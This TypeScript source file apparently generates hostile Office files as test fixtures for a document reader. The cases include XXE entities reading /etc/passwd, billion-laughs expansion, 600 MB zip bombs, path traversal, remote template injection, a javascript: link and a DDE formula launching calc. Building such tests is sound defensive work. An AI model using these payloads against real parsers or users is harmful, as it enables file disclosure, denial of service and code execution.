import { readFileSync } from "node:fs";
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import type { BadFile } from "./bad-file";
import { zeros } from "./bad-zips";

const fixtures = "src/documents/reading/fixtures";

type Made = Omit<BadFile, "kind">;

/** Returns files of Word, PowerPoint and Excel made to do harm, or to lie. */
export function badOffices(): BadFile[] {
  return [
    ...word().map((one) => ({ kind: "Word" as const, ...one })),
    ...powerPoint().map((one) => ({ kind: "PowerPoint" as const, ...one })),
    ...excel().map((one) => ({ kind: "Excel" as const, ...one })),
  ];
}

const laughing = (name: string) => {
  const lines = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`);
  return `<!DOCTYPE ${name} [<!ENTITY l0 "ha">${lines.join("")}]>`;
};
const outside = (name: string, address: string) => `<!DOCTYPE ${name} [<!ENTITY x SYSTEM "${address}">]>`;

/** Returns an office file of the tests with some of its parts changed or added. */
function changed(fixture: string, change: (part: (name: string) => string) => Record<string, string | Uint8Array>) {
  const files = unzipSync(Uint8Array.from(readFileSync(`${fixtures}/${fixture}`)));
  const made = change((name) => strFromU8(files[name] ?? new Uint8Array()));
  const bytes = Object.entries(made).map(([name, part]) => [name, typeof part === "string" ? strToU8(part) : part]);
  return zipSync({ ...files, ...Object.fromEntries(bytes) });
}

/** Returns files of Word whose text does harm, and files with other parts that do. */
function word(): Made[] {
  return [...wordTexts(), ...wordParts()];
}

function wordTexts(): Made[] {
  const main = "word/document.xml";
  const file = (change: (xml: string) => string) =>
    changed("plant-sheet.docx", (part) => ({ [main]: change(part(main)) }));
  const headed = (head: string, text: string) =>
    file((xml) =>
      xml
        .replace(/^(<\?xml[^>]*>)?/, `$1${head}`)
        .replace("<w:body>", `<w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p>`),
    );
  const within = (text: string) => file((xml) => xml.replace("<w:body>", `<w:body>${text}`));
  const paragraph = (text: string, look = "") => `<w:p><w:r><w:rPr>${look}</w:rPr><w:t>${text}</w:t></w:r></w:p>`;
  return [
    { name: "document of 600 MB", make: () => changed("plant-sheet.docx", () => ({ [main]: zeros() })) },
    {
      name: "picture of 600 MB",
      make: () => changed("plant-sheet.docx", () => ({ "word/media/image1.png": zeros() })),
    },
    { name: "external entity", hides: "root:x:0", make: () => headed(outside("w", "file:///etc/passwd"), "&x;") },
    { name: "entity from the network", make: () => headed(outside("w", "http://192.0.2.1/x"), "&x;") },
    { name: "entities of entities", make: () => headed(laughing("w"), "&l9;") },
    { name: "50,000 nested tables", make: () => within("<w:tbl><w:tr><w:tc>".repeat(50_000)) },
    {
      name: "5,000 tables in each other",
      make: () => within(nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 5000)),
    },
    { name: "200,000 paragraphs", make: () => within(paragraph("Rinse the membranes.").repeat(200_000)) },
    { name: "hidden text", ends: "sound", hides: "ZQXJ", make: () => within(paragraph("Open ZQXJ.", "<w:vanish/>")) },
    { name: "cut in the middle of its text", make: () => file((xml) => xml.slice(0, xml.length / 2)) },
    { name: "no text", make: () => file((xml) => xml.replace(/<w:body>.*<\/w:body>/s, "<w:body></w:body>")) },
    {
      name: "link that runs a script",
      ends: "sound",
      make: () =>
        within('<w:p><w:hyperlink w:anchor="javascript:alert(1)"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>'),
    },
  ];
}

function wordParts(): Made[] {
  const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const target = 'Target="http://192.0.2.1/x.dotm" TargetMode="External"';
  return [
    {
      name: "macro",
      ends: "sound",
      make: () => changed("plant-sheet.docx", () => ({ "word/vbaProject.bin": "Sub AutoOpen()" })),
    },
    {
      name: "template from the network",
      ends: "sound",
      make: () =>
        changed("plant-sheet.docx", (part) => ({
          "word/_rels/document.xml.rels": part("word/_rels/document.xml.rels").replace(
            "</Relationships>",
            `<Relationship Id="t" Type="${types}/attachedTemplate" ${target}/></Relationships>`,
          ),
        })),
    },
    { name: "nothing but its main part", make: () => zipSync({ "word/document.xml": strToU8("<w:document/>") }) },
    {
      name: "parts that name themselves",
      make: () =>
        changed("plant-sheet.docx", () => ({
          "_rels/.rels": '<Relationships><Relationship Id="a" Target="_rels/.rels"/></Relationships>',
        })),
    },
  ];
}

function nested(open: string, close: string, times: number): string {
  return open.repeat(times) + close.repeat(times);
}

type Slide = { readonly head?: string; readonly shapes: string; readonly show?: string };

function show(slides: readonly Slide[], rels?: string): Record<string, Uint8Array> {
  const numbers = slides.map((_, index) => index + 1);
  const links = numbers.map((number) => `<Relationship Id="r${number}" Target="slides/slide${number}.xml"/>`).join("");
  const list = numbers.map((number) => `<p:sldId r:id="r${number}"/>`).join("");
  const xml = slides.map(({ head = "", shapes, show: shown = "1" }, index) => [
    `ppt/slides/slide${index + 1}.xml`,
    strToU8(`${head}<p:sld show="${shown}">${shapes}</p:sld>`),
  ]);
  return {
    "ppt/presentation.xml": strToU8(`<p:p>${list}</p:p>`),
    "ppt/_rels/presentation.xml.rels": strToU8(rels ?? `<R>${links}</R>`),
    ...Object.fromEntries(xml),
  };
}

const shape = (text: string) => `<p:sp><a:p><a:r><a:t>${text}</a:t></a:r></a:p></p:sp>`;

/** Returns a show of three slides. */
export function goodShow(): Uint8Array {
  return zipSync(show([1, 2, 3].map((number) => ({ shapes: shape(`Start pump P-10${number} at 12 bar.`) }))));
}

function powerPoint(): Made[] {
  const one = (head: string, text: string) => () => zipSync(show([{ head, shapes: shape(text) }]));
  return [
    { name: "external entity", hides: "root:x:0", make: one(outside("p", "file:///etc/passwd"), "&x;") },
    { name: "entities of entities", make: one(laughing("p"), "&l9;") },
    {
      name: "3,000 slides",
      make: () => zipSync(show(Array.from({ length: 3000 }, () => ({ shapes: shape("Rinse.") })))),
    },
    { name: "one slide 100,000 times", make: hundredThousandTimes },
    {
      name: "hidden slide alone",
      make: () => zipSync(show([{ shapes: shape("Open ZQXJ."), show: "0" }])),
      hides: "ZQXJ",
    },
    { name: "100,000 nested shapes", make: one("", `${"<p:grpSp>".repeat(100_000)}x`) },
    {
      name: "slide that leads out",
      make: () => zipSync(show([{ shapes: shape("x") }], '<R><Relationship Id="r1" Target="../../etc/passwd"/></R>')),
    },
    { name: "slides that are missing", make: () => zipSync(show([])) },
    { name: "names that lead out", make: () => zipSync({ "../../ppt/presentation.xml": strToU8("<p/>") }) },
    { name: "slide of 600 MB", make: () => zipSync({ ...show([]), "ppt/slides/slide1.xml": zeros() }) },
    { name: "text in another alphabet than it says", make: one('<?xml version="1.0" encoding="utf-16"?>', "Rinse.") },
  ];
}

function hundredThousandTimes(): Uint8Array {
  const list = '<p:sldId r:id="r1"/>'.repeat(100_000);
  return zipSync({ ...show([{ shapes: shape("Rinse.") }]), "ppt/presentation.xml": strToU8(`<p:p>${list}</p:p>`) });
}

function excel(): Made[] {
  const [sheet, strings] = ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"];
  const rows = (data: string) =>
    changed("readings.xlsx", (part) => ({
      [sheet]: part(sheet).replace(/<sheetData>.*<\/sheetData>/s, `<sheetData>${data}</sheetData>`),
    }));
  const cell = (at: string, inner: string, type = "") =>
    `<row r="${at.replace(/\D/g, "")}"><c r="${at}"${type}>${inner}</c></row>`;
  return [
    { name: "sheet of 600 MB", make: () => changed("readings.xlsx", () => ({ [sheet]: zeros() })) },
    {
      name: "external entity",
      hides: "root:x:0",
      make: () =>
        changed("readings.xlsx", (part) => ({
          [strings]: part(strings)
            .replace(/^(<\?xml[^>]*>)?/, `$1${outside("sst", "file:///etc/passwd")}`)
            .replace(/<t[^>]*>[^<]*/, "<t>&x;"),
        })),
    },
    {
      name: "entities of entities",
      make: () =>
        changed("readings.xlsx", (part) => ({
          [strings]: part(strings)
            .replace(/^(<\?xml[^>]*>)?/, `$1${laughing("sst")}`)
            .replace(/<t[^>]*>[^<]*/, "<t>&l9;"),
        })),
    },
    { name: "cell in the last row and column", make: () => rows(cell("XFD1048576", "<v>1</v>")) },
    { name: "cell far beyond the last", make: () => rows(cell("ZZZZZZ99999999999", "<v>1</v>")) },
    { name: "cell in row nought", make: () => rows(cell("A0", "<v>1</v>")) },
    {
      name: "300,000 rows",
      make: () => rows(Array.from({ length: 300_000 }, (_, at) => cell(`A${at + 1}`, "<v>7</v>")).join("")),
    },
    { name: "formula that runs a program", make: () => rows(cell("A1", "<f>cmd|'/C calc'!A0</f><v>5</v>")) },
    { name: "formula in a circle", make: () => rows(cell("A1", "<f>A1+1</f><v>0</v>")) },
    { name: "words that are not there", make: () => rows(cell("A1", "<v>999999</v>", ' t="s"')) },
    { name: "figure of a million digits", make: () => rows(cell("A1", `<v>${"9".repeat(1_000_000)}</v>`)) },
    { name: "macro", make: () => changed("readings.xlsx", () => ({ "xl/vbaProject.bin": "Sub Auto_Open()" })) },
    { name: "no sheet", make: () => changed("readings.xlsx", () => ({ [sheet]: "" })) },
  ];
}
